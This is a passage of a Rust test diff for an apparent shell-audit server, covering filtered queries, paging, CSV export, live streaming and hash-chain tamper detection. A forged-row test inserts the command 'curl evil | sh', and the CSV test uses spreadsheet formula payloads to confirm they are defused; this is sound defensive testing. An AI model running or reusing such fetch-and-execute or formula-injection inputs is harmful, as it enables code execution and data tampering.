+    as_carol["login_user"] = json!("carol");
+    let batch = json!({ "events": [
+        ev("a", 1, "root", "2026-11-23 23:59:59", "ls -l"),
+        as_carol,
+        ev("a", 3, "bob", "2026-11-24 12:00:00", "echo a_b"),
+        ev("a", 4, "root", "2026-11-24 23:59:59", "grep 1000 fileXname"),
+        ev("a", 5, "bob", "2026-11-25 00:00:00", "echo axb"),
+    ] });
+    assert_eq!(post_batch(server, &local, &batch), (StatusCode::OK, ack(5, 0)));
+    let batch = json!({ "events": [ev("b", 1, "root", "2026-11-24 08:00:00", "uptime")] });
+    assert_eq!(post_batch(server, &web2, &batch), (StatusCode::OK, ack(1, 0)));
+    (local, web2)
+}
+
+#[test]
+fn queries_filter_by_host_user_text_and_time_and_page_with_next() {
+    let server = start();
+    populate(&server);
+    let viewer = viewer_token(&server);
+    let q = |query: &str| commands(&list(&server, &viewer, query));
+    let all = ["uptime", "echo axb", "grep 1000 fileXname", "echo a_b", "grep 100% file_name", "ls -l"];
+    assert_eq!(q(""), all);
+    assert_eq!(q("host=web2"), ["uptime"]);
+    assert_eq!(q("host=127.0.0.2"), ["uptime"]);
+    assert_eq!(q("ip=127.0.0.2"), ["uptime"]);
+    assert_eq!(q("host=localhost").len(), 5);
+    assert_eq!(q("host=127.0.0.1,web2"), all);
+    assert_eq!(
+        get_as(&server, &viewer, "/api/audit/events?host=nosuch"),
+        (StatusCode::BAD_REQUEST, json!({ "error": "unknown hosts: nosuch", "field": "host" }))
+    );
+    assert_eq!(q("user=bob"), ["echo axb", "echo a_b"]);
+    // carol logged in and became root: she is found by her login name (stored with the uid, `carol(0)`).
+    assert_eq!(list(&server, &viewer, "user=carol")["events"][0]["login_user"], "carol(0)");
+    assert_eq!(q("user=carol"), ["grep 100% file_name"]);
+    assert_eq!(q("user=carol,bob"), ["echo axb", "echo a_b", "grep 100% file_name"]);
+    assert_eq!(q("user=root&host=localhost"), ["grep 1000 fileXname", "grep 100% file_name", "ls -l"]);
+    // Literal text: `%` and `_` are not wildcards, and case counts.
+    assert_eq!(q("q=100%25"), ["grep 100% file_name"]);
+    assert_eq!(q("q=a_b"), ["echo a_b"]);
+    assert_eq!(q("q=e_n"), ["grep 100% file_name"]);
+    assert_eq!(q("q=GREP"), Vec::<String>::new());
+    assert_eq!(q("q=%5C"), Vec::<String>::new());
+    // Time bounds are prefixes; `to` takes in the whole of its day.
+    assert_eq!(
+        q("from=2026-11-24&to=2026-11-24"),
+        ["uptime", "grep 1000 fileXname", "echo a_b", "grep 100% file_name"]
+    );
+    assert_eq!(q("from=2026-11-24T12:00:00"), ["echo axb", "grep 1000 fileXname", "echo a_b"]);
+    assert_eq!(q("to=2026-11-24%2008:00"), ["uptime", "grep 100% file_name", "ls -l"]);
+    assert_eq!(q("to=2026-11-23"), ["ls -l"]);
+    assert_eq!(q("from=2026-11-25"), ["echo axb"]);
+    assert_eq!(
+        get_as(&server, &viewer, "/api/audit/events?from=yesterday"),
+        (
+            StatusCode::BAD_REQUEST,
+            json!({ "error": "must look like 2026-11-24 or 2026-11-24 18:30:00", "field": "from" })
+        )
+    );
+
+    // Pages: newest first with `before`, oldest first with `after`; `next` continues, null at the end.
+    let every = ids(&list(&server, &viewer, "limit=1000"));
+    assert_eq!(every, vec![6, 5, 4, 3, 2, 1]);
+    let page = list(&server, &viewer, "limit=4");
+    assert_eq!((ids(&page), &page["next"]), (vec![6, 5, 4, 3], &json!(3)));
+    let page = list(&server, &viewer, "limit=4&before=3");
+    assert_eq!((ids(&page), &page["next"]), (vec![2, 1], &Value::Null));
+    let page = list(&server, &viewer, "limit=3&after=0");
+    assert_eq!((ids(&page), &page["next"]), (vec![1, 2, 3], &json!(3)));
+    let page = list(&server, &viewer, "limit=3&after=3");
+    assert_eq!((ids(&page), &page["next"]), (vec![4, 5, 6], &json!(6)));
+    let page = list(&server, &viewer, "limit=3&after=6");
+    assert_eq!((ids(&page), &page["next"]), (Vec::<i64>::new(), &Value::Null));
+    let page = list(&server, &viewer, "limit=2&after=1&host=localhost&user=bob");
+    assert_eq!((ids(&page), &page["next"]), (vec![3, 5], &json!(5)));
+    for limit in ["0", "1001", "-1"] {
+        assert_eq!(
+            get_as(&server, &viewer, &format!("/api/audit/events?limit={limit}")),
+            (StatusCode::BAD_REQUEST, json!({ "error": "must be between 1 and 1000", "field": "limit" })),
+            "limit={limit}"
+        );
+    }
+    assert_eq!(list(&server, &viewer, "limit=1")["next"], json!(6));
+    let (status, body) = get_as(&server, &viewer, "/api/audit/events?colour=red");
+    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
+}
+
+#[test]
+fn csv_export_quotes_cells_and_defuses_formulas() {
+    let server = start();
+    let token = agent_token(&server, "localhost");
+    let batch = json!({ "events": [
+        ev("c", 1, "root", "2026-11-24 10:00:01", "echo \"a,b\"\necho 'next line'"),
+        ev("c", 2, "root", "2026-11-24 10:00:02", "=HYPERLINK(\"http://x\",\"y\")"),
+        ev("c", 3, "root", "2026-11-24 10:00:03", "=1+1"),
+        ev("c", 4, "root", "2026-11-24 10:00:04", "plain"),
+    ] });
+    assert_eq!(post_batch(&server, &token, &batch), (StatusCode::OK, ack(4, 0)));
+    let events = all_events(&server);
+    let response = server
+        .client
+        .get(format!("{}/api/audit/events.csv?after=0", server.base))
+        .bearer_auth(&server.token)
+        .send()
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+    assert_eq!(response.headers()["content-type"], "text/csv; charset=utf-8");
+    assert_eq!(response.headers()["content-disposition"], "attachment; filename=\"audit.csv\"");
+    let text = response.text().unwrap();
+    let commands =
+        ["\"echo \"\"a,b\"\"\necho 'next line'\"", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"", "'=1+1", "plain"];
+    let mut want = String::from("id,host,ip,history_id,user,login_user,tty,datetime,received_at_ms,source,command\r\n");
+    for (e, command) in events.iter().zip(commands) {
+        want.push_str(&format!(
+            "{},localhost,127.0.0.1,{},root,,/dev/pts/1,{},{},agent,{command}\r\n",
+            e["id"],
+            e["history_id"],
+            e["datetime"].as_str().unwrap(),
+            e["received_at"]
+        ));
+    }
+    assert_eq!(text, want);
+    // Filters apply to the export too.
+    let (status, body) = server
+        .send(server.client.get(format!("{}/api/audit/events.csv?q=plain", server.base)).bearer_auth(&server.token));
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(body.as_str().unwrap().lines().count(), 2, "{body}");
+}
+
+/// One server-sent event: its fields (`event`, `id`, `data`).
+type SseEvent = BTreeMap<String, String>;
+
+/// Subscribes to the live stream and hands its events over a channel (read on a thread).
+fn subscribe(server: &Server, query: &str) -> mpsc::Receiver<SseEvent> {
+    let client = Client::builder().timeout(Duration::from_secs(30)).build().unwrap();
+    let response = client
+        .get(format!("{}/api/audit/stream?{query}", server.base))
+        .bearer_auth(&server.token)
+        .send()
+        .expect("subscribe");
+    assert_eq!(response.status(), StatusCode::OK);
+    assert_eq!(response.headers()["content-type"], "text/event-stream");
+    let (tx, rx) = mpsc::channel();
+    thread::spawn(move || {
+        let mut event = SseEvent::new();
+        for line in BufReader::new(response).lines().map_while(Result::ok) {
+            if line.is_empty() {
+                if !event.is_empty() && tx.send(std::mem::take(&mut event)).is_err() {
+                    return;
+                }
+            } else if !line.starts_with(':') {
+                let (field, value) = line.split_once(':').unwrap_or((&line, ""));
+                event.insert(field.to_owned(), value.strip_prefix(' ').unwrap_or(value).to_owned());
+            }
+        }
+    });
+    rx
+}
+
+#[test]
+fn the_live_stream_sends_matching_events_as_they_are_committed() {
+    let server = start();
+    add_host(&server, "web2", "127.0.0.2");
+    let filtered = subscribe(&server, "host=localhost&user=root");
+    let everything = subscribe(&server, "");
+    let datetime = "2014-06-07%2022:05:56";
+    // Another host, then another user: not for the filtered subscriber.
+    assert_eq!(
+        legacy_from(&server, SECOND, &legacy_url("1", "127.0.0.2", "root", datetime, "web2%20cmd")),
+        (200, "OK".into())
+    );
+    assert_eq!(legacy(&server, &legacy_url("2", "127.0.0.1", "bob", datetime, "bob%20cmd")), (200, "OK".into()));
+    let sent = Instant::now();
+    assert_eq!(legacy(&server, &legacy_url("3", "127.0.0.1", "root", datetime, "root%20cmd")), (200, "OK".into()));
+    let event = filtered.recv_timeout(Duration::from_secs(1)).expect("the event within 1 s");
+    let latency = sent.elapsed();
+    println!("live stream latency (legacy GET sent -> SSE event read): {latency:?}");
+    assert!(latency < Duration::from_secs(1));
+    assert_eq!(event.keys().collect::<Vec<_>>(), ["data", "event", "id"], "{event:?}");
+    assert_eq!(event["event"], "audit");
+    assert_eq!(event["id"], "3");
+    let data: Value = serde_json::from_str(&event["data"]).unwrap();
+    assert_eq!(
+        data,
+        json!({ "id": 3, "host": "localhost", "ip": "127.0.0.1", "history_id": 3, "user": "root", "login_user": null,
+                "tty": null, "datetime": "2014-06-07 22:05:56", "received_at": data["received_at"],
+                "command": "root cmd", "source": "legacy" })
+    );
+    assert!(filtered.recv_timeout(Duration::from_millis(300)).is_err(), "nothing else matches");
+    let all: Vec<(String, String)> = (0..3)
+        .map(|_| everything.recv_timeout(Duration::from_secs(1)).expect("every event"))
+        .map(|e| {
+            (
+                e["id"].clone(),
+                serde_json::from_str::<Value>(&e["data"]).unwrap()["command"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        all,
+        [("1", "web2 cmd"), ("2", "bob cmd"), ("3", "root cmd")].map(|(i, c)| (i.to_owned(), c.to_owned())).to_vec()
+    );
+    // Agent events go out too, with the login user filter.
+    let carol = subscribe(&server, "user=carol");
+    let token = agent_token(&server, "localhost");
+    let mut e = ev("s", 1, "root", "2026-11-24 10:00:00", "sudo -i");
+    e["login_user"] = json!("carol");
+    assert_eq!(post_batch(&server, &token, &json!({ "events": [e] })), (StatusCode::OK, ack(1, 0)));
+    let event = carol.recv_timeout(Duration::from_secs(1)).expect("carol's event");
+    assert_eq!(serde_json::from_str::<Value>(&event["data"]).unwrap()["login_user"], "carol(0)");
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// 4. The real agent
+
+fn agent_binary() -> PathBuf {
+    let path = common::target_dir().join("debug").join("omaudit-agent");
+    assert!(path.exists(), "{} is missing: run `cargo build -p omaudit-agent` first", path.display());
+    path
+}
+
+#[test]
+fn the_real_agent_delivers_a_prompt_line_once() {
+    let server = start();
+    let token = agent_token(&server, "localhost");
+    let scratch = tempfile::tempdir().unwrap();
+    let agent = |args: &[&str]| {
+        let out = Command::new(agent_binary())
+            .args(args)
+            .env("OMAUDIT_CONFIG", "")
+            .env("OMAUDIT_SERVER", &server.base)
+            .env("OMAUDIT_TOKEN", &token)
+            .env("OMAUDIT_SPOOL_DIR", scratch.path().join("spool"))
+            .env("OMAUDIT_LOG_DIR", scratch.path().join("log"))
+            .stdin(Stdio::null())
+            .output()
+            .expect("run omaudit-agent");
+        (
+            out.status.code(),
+            String::from_utf8_lossy(&out.stdout).into_owned(),
+            String::from_utf8_lossy(&out.stderr).into_owned(),
+        )
+    };
+    let line = "  42  root 2026-11-24 10:00:00 ls -l /tmp";
+    let (code, _, stderr) = agent(&[line]);
+    assert_eq!((code, stderr.as_str()), (Some(0), ""));
+    let (code, stdout, stderr) = agent(&["flush"]);
+    assert_eq!(code, Some(0), "flush: {stdout}{stderr}");
+    assert!(stdout.ends_with("omaudit-agent: 0 event(s) and 0 gap(s) still spooled\n"), "{stdout}");
+
+    let events = all_events(&server);
+    assert_eq!(events.len(), 1, "{events:?}");
+    let e = &events[0];
+    assert_eq!(
+        (&e["host"], &e["ip"], &e["history_id"], &e["user"], &e["datetime"], &e["command"], &e["source"], &e["tty"]),
+        (
+            &json!("localhost"),
+            &json!("127.0.0.1"),
+            &json!(42),
+            &json!("root"),
+            &json!("2026-11-24 10:00:00"),
+            &json!("ls -l /tmp"),
+            &json!("agent"),
+            &Value::Null
+        )
+    );
+    // SAFETY: getuid has no preconditions.
+    let uid = unsafe { libc::getuid() };
+    assert!(e["login_user"].as_str().unwrap().ends_with(&format!("({uid})")), "{e}");
+
+    // The same line at the next (empty) prompt: not stored again.
+    assert_eq!(agent(&[line]).0, Some(0));
+    let (code, stdout, stderr) = agent(&["flush"]);
+    assert_eq!(code, Some(0), "flush: {stdout}{stderr}");
+    assert_eq!(all_events(&server).len(), 1);
+    // A new line is.
+    assert_eq!(agent(&[" 43  root 2026-11-24 10:00:05 echo two"]).0, Some(0));
+    assert_eq!(agent(&["flush"]).0, Some(0));
+    let events = all_events(&server);
+    assert_eq!(events.iter().map(|e| e["command"].as_str().unwrap()).collect::<Vec<_>>(), ["ls -l /tmp", "echo two"]);
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// 5. omserver audit verify
+
+/// A server with five rows: three on localhost, two on web2 (ids 1-3 and 4-5). Verified intact first.
+fn trail() -> (Server, i64) {
+    let server = start();
+    add_host(&server, "web2", "127.0.0.2");
+    let local = agent_token(&server, "localhost");
+    let web2 = agent_token(&server, "web2");
+    let three: Vec<Value> = (1..=3).map(|s| ev("v", s, "root", "2026-11-24 10:00:00", &format!("cmd {s}"))).collect();
+    assert_eq!(post_batch(&server, &local, &json!({ "events": three })), (StatusCode::OK, ack(3, 0)));
+    let two: Vec<Value> = (1..=2).map(|s| ev("v", s, "root", "2026-11-24 10:00:00", &format!("web {s}"))).collect();
+    assert_eq!(post_batch(&server, &web2, &json!({ "events": two })), (StatusCode::OK, ack(2, 0)));
+    let out = cli(&server, &["audit", "verify"]);
+    assert_eq!(
+        (out.status.code(), out.stdout.as_str()),
+        (Some(0), "5 rows on 2 hosts checked, 0 problems\n"),
+        "{out:?}"
+    );
+    let (status, report) = server.get("/api/audit/verify");
+    assert_eq!((status, report), (StatusCode::OK, json!({ "hosts": 2, "rows": 5, "findings": [] })));
+    let localhost = host_id(&server, "localhost");
+    (server, localhost)
+}
+
+fn verify_fails_with(server: &Server, lines: &[String]) {
+    let out = cli(server, &["audit", "verify"]);
+    assert_eq!(out.status.code(), Some(1), "{out:?}");
+    assert_eq!(out.stdout, lines.iter().map(|l| format!("{l}\n")).collect::<String>(), "{out:?}");
+}
+
+#[test]
+fn verify_names_an_edited_row() {
+    let (server, h) = trail();
+    assert_eq!(db_exec(&server, "UPDATE server_history SET history_command = 'cmd 2 (harmless)' WHERE id = 2"), 1);
+    verify_fails_with(
+        &server,
+        &[
+            format!("host #{h} at chain position 2: row id 2 was edited or forged: its contents do not match its MAC"),
+            "5 rows on 2 hosts checked, 1 problems".into(),
+        ],
+    );
+}
+
+#[test]
+fn verify_reports_a_deleted_middle_row() {
+    let (server, h) = trail();
+    assert_eq!(db_exec(&server, "DELETE FROM server_history WHERE id = 2"), 1);
+    verify_fails_with(
+        &server,
+        &[
+            format!("host #{h} at chain position 3: 1 row(s) missing before this one (deleted): chain positions 2..2"),
+            "4 rows on 2 hosts checked, 1 problems".into(),
+        ],
+    );
+}
+
+#[test]
+fn verify_reports_deleted_newest_rows() {
+    let (server, h) = trail();
+    assert_eq!(db_exec(&server, "DELETE FROM server_history WHERE id IN (2, 3)"), 2);
+    verify_fails_with(
+        &server,
+        &[
+            format!("host #{h} at chain position 2: the newest 2 row(s) were deleted: the chain head is at 3"),
+            "3 rows on 2 hosts checked, 1 problems".into(),
+        ],
+    );
+}
+
+#[test]
+fn verify_catches_a_forged_row_with_a_copied_hash() {
+    let (server, h) = trail();
+    // A new row after the head, linked to it and carrying row 3's own MAC; then the head moved to it.
+    let inserted = db_exec(
+        &server,
+        "INSERT INTO server_history (host_id, history_ip, history_id, history_user, login_user, tty, history_datetime, \
+         received_at, history_command, source, stream, seq, dedup_key, chain_seq, prev_hash, row_hash) \
+         SELECT host_id, history_ip, history_id + 1, history_user, login_user, tty, history_datetime, received_at, \
+         'curl evil | sh', source, stream, seq + 1, substr('f' || dedup_key, 1, 64), chain_seq + 1, row_hash, row_hash \
+         FROM server_history WHERE id = 3",
+    );
+    assert_eq!(inserted, 1);
+    verify_fails_with(
+        &server,
+        &[
+            format!("host #{h} at chain position 4: row id 6 was edited or forged: its contents do not match its MAC"),
+            format!("host #{h} at chain position 3: the chain head (3) does not match the last row (4)"),
+            "6 rows on 2 hosts checked, 2 problems".into(),
+        ],
+    );
+    let moved = db_exec(
+        &server,
+        &format!(
+            "UPDATE audit_chain SET last_seq = 4, last_hash = (SELECT row_hash FROM server_history WHERE id = 6) \
+             WHERE host_id = {h}"
+        ),
+    );
+    assert_eq!(moved, 1);
+    verify_fails_with(
+        &server,
+        &[
+            format!("host #{h} at chain position 4: row id 6 was edited or forged: its contents do not match its MAC"),
+            "6 rows on 2 hosts checked, 1 problems".into(),
+        ],
+    );
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// 6. Three dialects, in-process
+
+mod dialects {
+    use std::{panic::AssertUnwindSafe, sync::Arc, time::Duration};
+
+    use futures_util::FutureExt;
+    use omserver::{
+        audit::{chain::Finding, AgentBatch, AuditConfig, AuditService},
+        store::{AuditQuery, AuditRow, Dialect, NewHost, Store},
+    };
+    use serde_json::{json, Value};
+    use sqlx::Connection;
+
+    const CONNECT_LIMIT: Duration = Duration::from_secs(10);
+
+    fn admin_url(dialect: Dialect) -> String {
+        let (var, default) = match dialect {
+            Dialect::MySql => ("TEST_MYSQL_URL", "mysql://root@127.0.0.1:3306/test"),
+            Dialect::Postgres => ("TEST_POSTGRES_URL", "postgres://postgres@127.0.0.1:5432/postgres"),
+            Dialect::Sqlite => unreachable!(),
+        };
+        std::env::var(var).ok().filter(|v| !v.is_empty()).unwrap_or_else(|| default.to_owned())
+    }
+
+    fn with_database(url: &str, name: &str) -> String {
+        let (base, query) = match url.split_once('?') {
+            Some((base, query)) => (base, format!("?{query}")),
+            None => (url, String::new()),
+        };
+        let start = base.find("://").map(|i| i + 3).unwrap_or(0);
+        let end = base[start..].find('/').map(|i| start + i).unwrap_or(base.len());
+        format!("{}/{name}{query}", &base[..end])
+    }
+
+    async fn admin<C: Connection>(url: &str) -> C {
+        match tokio::time::timeout(CONNECT_LIMIT, C::connect(url)).await {
+            Ok(Ok(conn)) => conn,
+            Ok(Err(e)) => panic!("cannot connect to {url} ({e}); the audit dialect test needs it running"),
+            Err(_) => panic!("{url} did not answer in {CONNECT_LIMIT:?}; the audit dialect test needs it running"),
+        }
+    }
+
+    /// A fresh database: (URL, admin URL and name to drop, temp dir for SQLite).
+    async fn create(dialect: Dialect) -> (String, Option<(String, String)>, Option<tempfile::TempDir>) {
+        if dialect == Dialect::Sqlite {
+            let dir = tempfile::tempdir().unwrap();
+            let url = format!("sqlite://{}", dir.path().join("audit.db").display());
+            return (url, None, Some(dir));
+        }
+        let admin_url = admin_url(dialect);
+        let name = format!("omstest_{:016x}", rand::random::<u64>());
+        let sql = format!("CREATE DATABASE {name}");
+        if dialect == Dialect::MySql {
+            let mut conn: sqlx::MySqlConnection = admin(&admin_url).await;
+            sqlx::query(&sql).execute(&mut conn).await.unwrap_or_else(|e| panic!("{sql}: {e}"));
+            let _ = conn.close().await;
+        } else {
+            let mut conn: sqlx::PgConnection = admin(&admin_url).await;
+            sqlx::query(&sql).execute(&mut conn).await.unwrap_or_else(|e| panic!("{sql}: {e}"));
+            let _ = conn.close().await;
+        }
+        (with_database(&admin_url, &name), Some((admin_url, name)), None)
+    }
+
+    async fn drop_database(dialect: Dialect, server: Option<(String, String)>) {
+        let Some((admin_url, name)) = server else { return };
+        let done = if dialect == Dialect::MySql {
+            let mut conn: sqlx::MySqlConnection = admin(&admin_url).await;
+            sqlx::query(&format!("DROP DATABASE IF EXISTS {name}")).execute(&mut conn).await.map(|_| ())
+        } else {
+            let mut conn: sqlx::PgConnection = admin(&admin_url).await;
+            sqlx::query(&format!("DROP DATABASE IF EXISTS {name} WITH (FORCE)")).execute(&mut conn).await.map(|_| ())
+        };
+        if let Err(e) = done {
+            eprintln!("warning: could not drop test database {name}: {e}");
+        }
+    }
+
+    /// Runs `sql` (no parameters) on a plain connection, outside the store; returns the rows changed.
+    async fn raw(dialect: Dialect, url: &str, sql: &str) -> u64 {
+        let done = match dialect {
+            Dialect::Sqlite => {
+                let mut c = sqlx::SqliteConnection::connect(url).await.unwrap();
+                sqlx::query(sql).execute(&mut c).await.map(|r| r.rows_affected())
+            }
+            Dialect::MySql => {
+                let mut c = sqlx::MySqlConnection::connect(url).await.unwrap();
+                sqlx::query(sql).execute(&mut c).await.map(|r| r.rows_affected())
+            }
+            Dialect::Postgres => {
+                let mut c = sqlx::PgConnection::connect(url).await.unwrap();
+                sqlx::query(sql).execute(&mut c).await.map(|r| r.rows_affected())
+            }
+        };
+        done.unwrap_or_else(|e| panic!("{sql}: {e}"))
+    }
+
+    /// Batch `b`'s event `s` (1..=250): what it carries, so that expectations are computed, not guessed.
+    struct Spec {
+        stream: String,
+        seq: i64,
+        user: &'static str,
+        login: Option<&'static str>,
+        time: String,
+        command: String,
+    }
+
+    fn spec(b: usize, s: i64) -> Spec {
+        Spec {
+            stream: format!("stream-{b}"),
+            seq: s,
+            user: if s % 5 == 0 { "alice" } else { "root" },
+            login: (s % 7 == 0).then_some("carol"),
+            time: format!("2026-11-{:02} {:02}:{:02}:00", 20 + b, s / 60, s % 60),
+            command: match s % 10 {
+                3 => format!("grep 100% log{b}_{s}"),
+                4 => format!("grep 1000 log{b}x{s}"),
+                6 => format!("echo a_b {b} {s}"),
+                8 => format!("echo axb {b} {s}"),
+                _ => format!("cmd {b} {s}"),
+            },
+        }
+    }
+
+    fn batch(b: usize) -> AgentBatch {
+        let events: Vec<Value> = (1..=250)
+            .map(|s| {
+                let e = spec(b, s);
+                json!({ "stream": e.stream, "seq": e.seq, "history_id": e.seq, "user": e.user,
+                        "login_user": e.login.unwrap_or(""), "uid": 0, "tty": "/dev/pts/0", "ip": "203.0.113.9",
+                        "time": e.time, "command": e.command })
+            })
+            .collect();
+        serde_json::from_value(json!({ "events": events })).unwrap()
+    }
+
+    fn key_of(row: &AuditRow) -> (String, i64) {
+        (row.stream.clone().unwrap(), row.seq.unwrap())
+    }
+
+    fn keys(rows: &[AuditRow]) -> Vec<(String, i64)> {
+        let mut k: Vec<_> = rows.iter().map(key_of).collect();
+        k.sort();
+        k
+    }
+
+    fn expected(pick: impl Fn(usize, &Spec) -> bool) -> Vec<(String, i64)> {
+        let mut k: Vec<_> = (0..4)
+            .flat_map(|b| (1..=250).map(move |s| (b, spec(b, s))))
+            .filter(|(b, e)| pick(*b, e))
+            .map(|(_, e)| (e.stream, e.seq))
+            .collect();
+        k.sort();
+        k
+    }
+
+    /// Compares (stream, seq) lists, saying briefly how they differ.
+    fn same(what: &str, got: &[(String, i64)], want: &[(String, i64)]) {
+        if got != want {
+            let missing: Vec<_> = want.iter().filter(|k| !got.contains(k)).take(5).collect();
+            let extra: Vec<_> = got.iter().filter(|k| !want.contains(k)).take(5).collect();
+            panic!(
+                "{what}: {} rows, want {}; missing e.g. {missing:?}; unexpected e.g. {extra:?}",
+                got.len(),
+                want.len()
+            );
+        }
+    }
+
+    fn query(limit: i64) -> AuditQuery {
+        AuditQuery { limit, ..AuditQuery::default() }
+    }
+
+    async fn check(dialect: Dialect, url: &str) {
+        let store =
+            tokio::time::timeout(CONNECT_LIMIT * 3, Store::connect(url)).await.expect("connect in time").unwrap();
+        let host =
+            |name: &str, ip: &str| NewHost { name: name.into(), ip: ip.into(), wan_ip: None, op: None, category: None };
+        let a = store.add_host(&host("alpha", "10.1.0.1")).await.unwrap().id;
+        let b = store.add_host(&host("beta", "10.1.0.2")).await.unwrap().id;
+        let c = store.add_host(&host("gamma", "2001:db8::7")).await.unwrap().id;
+        let audit: Arc<AuditService> =
+            AuditService::start(store.clone(), AuditConfig::default(), b"test chain key".to_vec());
+        let host_of = move |i: usize| if i < 2 { a } else { b };
+
+        // 1000 events in 4 concurrent batches, then the same 4 again, concurrently.
+        for round in 0..2 {
+            let tasks: Vec<_> = (0..4)
+                .map(|i| {
+                    let audit = audit.clone();
+                    tokio::spawn(async move { audit.ingest_agent(Some(host_of(i)), batch(i)).await })
+                })
+                .collect();
+            for task in tasks {
+                let ack = task.await.unwrap().unwrap();
+                let want = if round == 0 { (250, 0) } else { (0, 250) };
+                assert_eq!((ack.stored, ack.duplicates, ack.rejected.len()), (want.0, want.1, 0), "round {round}");
+            }
+        }
+        // A new event, and one whose login user and uid together would overflow the column (64 characters).
+        let mixed: AgentBatch = serde_json::from_value(json!({ "events": [
+            { "stream": "x", "seq": 1, "history_id": 1, "user": "root", "time": "2026-11-26 00:00:00", "command": "ünïcødé ✓ 'q' \"d\" \\ ;" },
+            { "stream": "x", "seq": 2, "history_id": 2, "user": "root", "login_user": "l".repeat(60), "uid": 4294967294u32,
+              "time": "2026-11-26 00:00:01", "command": "long login" },
+        ] }))
+        .unwrap();
+        let ack = audit.ingest_agent(Some(c), mixed).await.unwrap();
+        assert_eq!((ack.stored, ack.duplicates), (1, 0), "{ack:?}");
+        assert_eq!(ack.rejected.len(), 1, "{ack:?}");
+        assert_eq!((ack.rejected[0].stream.as_str(), ack.rejected[0].seq), ("x", 2));
+        assert!(ack.rejected[0].reason.starts_with("login_user: "), "{ack:?}");
+        let replay: AgentBatch = serde_json::from_value(json!({ "events": [
+            { "stream": "stream-0", "seq": 250, "history_id": 1, "user": "root", "time": "2026-11-20 04:10:00", "command": "cmd 0 250" },
+        ] })).unwrap();
+        let ack = audit.ingest_agent(Some(a), replay).await.unwrap();
+        assert_eq!((ack.stored, ack.duplicates), (0, 1));
+
+        // Everything, newest first.
+        let all = audit.query(&query(1000)).await.unwrap();
+        assert_eq!(all.len(), 1000);
+        assert!(all.windows(2).all(|w| w[0].id > w[1].id), "newest first");
+        let rows = store.query_audit(&query(2000)).await.unwrap();
+        assert_eq!(rows.len(), 1001);
+        let mut distinct: Vec<_> = rows.iter().map(|r| r.id).collect();
+        distinct.dedup();
+        assert_eq!(distinct.len(), 1001);
+        let everything = expected(|_, _| true);
+        same("every row", &keys(&rows).into_iter().filter(|k| k.0 != "x").collect::<Vec<_>>(), &everything);
+        let unicode = rows.iter().find(|r| r.stream.as_deref() == Some("x")).unwrap();
+        assert_eq!((unicode.host_id, unicode.history_ip.as_str()), (c, "2001:db8::7"));
+        assert_eq!(unicode.history_command, "ünïcødé ✓ 'q' \"d\" \\ ;");
+        for row in &rows {
+            let want_host = if row.stream.as_deref() == Some("x") {
+                c
+            } else {
+                host_of(row.stream.as_deref().unwrap()[7..].parse().unwrap())
+            };
+            assert_eq!(row.host_id, want_host);
+            assert_ne!(row.history_ip, "203.0.113.9", "the claimed address is never trusted");
+        }
+        // Each host's chain is 1..=n with no holes.
+        for (h, n) in [(a, 500), (b, 500), (c, 1)] {
+            let mut seqs: Vec<i64> = rows.iter().filter(|r| r.host_id == h).map(|r| r.chain_seq).collect();
+            seqs.sort();
+            assert_eq!(seqs, (1..=n).collect::<Vec<_>>());
+        }
+
+        // Filters.
+        let q = |f: AuditQuery| {
+            let store = store.clone();
+            async move { keys(&store.query_audit(&AuditQuery { limit: 2000, ..f }).await.unwrap()) }
+        };
+        same("host alpha", &q(AuditQuery { host_ids: vec![a], ..query(0) }).await, &expected(|b, _| b < 2));
+        assert_eq!(q(AuditQuery { host_ids: vec![b, c], ..query(0) }).await.len(), 501);
+        let user = |names: &[&str]| AuditQuery { users: names.iter().map(|n| n.to_string()).collect(), ..query(0) };
+        same("user alice", &q(user(&["alice"])).await, &expected(|_, e| e.user == "alice"));
+        same("login user carol", &q(user(&["carol"])).await, &expected(|_, e| e.login.is_some()));
+        same(
+            "alice or carol on beta",
+            &q(AuditQuery { host_ids: vec![b], ..user(&["alice", "carol"]) }).await,
+            &expected(|b, e| b >= 2 && (e.user == "alice" || e.login.is_some())),
+        );
+        for text in ["100%", "a_b", "_", "%", "x2", "ünïcødé", "\\", "'q'"] {
+            let got = q(AuditQuery { text: Some(text.into()), ..query(0) }).await;
+            let mut want = expected(|_, e| e.command.contains(text));
+            if unicode.history_command.contains(text) {
+                want.push(("x".into(), 1));
+                want.sort();
+            }
+            same(&format!("text {text:?}"), &got, &want);
+            assert!(!got.is_empty(), "text {text:?} matched nothing");
+        }
+        same("text \"GREP\" (case counts)", &q(AuditQuery { text: Some("GREP".into()), ..query(0) }).await, &[]);
+        let day = |from: &str, to: &str| AuditQuery { from: Some(from.into()), to: Some(to.into()), ..query(0) };
+        same("days 21-22", &q(day("2026-11-21", "2026-11-22")).await, &expected(|b, _| b == 1 || b == 2));
+        same(
+            "21st 01:00-02:30",
+            &q(day("2026-11-21 01", "2026-11-21 02:30")).await,
+            &expected(|b, e| b == 1 && (60..=150).contains(&e.seq)),
+        );
+        same(
+            "to the 20th",
+            &q(AuditQuery { to: Some("2026-11-20".into()), ..query(0) }).await,
+            &expected(|b, _| b == 0),
+        );
+
+        // Pages both ways cover every row once, in order.
+        let mut forward = Vec::new();
+        let mut after = 0;
+        loop {
+            let page = store.query_audit(&AuditQuery { after: Some(after), ..query(300) }).await.unwrap();
+            forward.extend(page.iter().map(|r| r.id));
+            match page.last() {
+                Some(last) if page.len() == 300 => after = last.id,
+                _ => break,
+            }
+        }
+        let mut ascending: Vec<i64> = rows.iter().map(|r| r.id).collect();
+        ascending.sort();
+        assert_eq!(forward, ascending);
+        let page = store.query_audit(&AuditQuery { before: Some(ascending[10]), ..query(5) }).await.unwrap();
+        assert_eq!(
+            page.iter().map(|r| r.id).collect::<Vec<_>>(),
+            ascending[5..10].iter().rev().copied().collect::<Vec<_>>()
+        );
+
+        // The trail verifies.
+        let report = audit.verify().await.unwrap();
+        assert_eq!((report.hosts, report.rows, report.findings.clone()), (3, 1001, Vec::new()), "{dialect:?}");
+
+        // Tampering, through a connection of its own: an edit and a deletion on alpha, the newest row of beta.
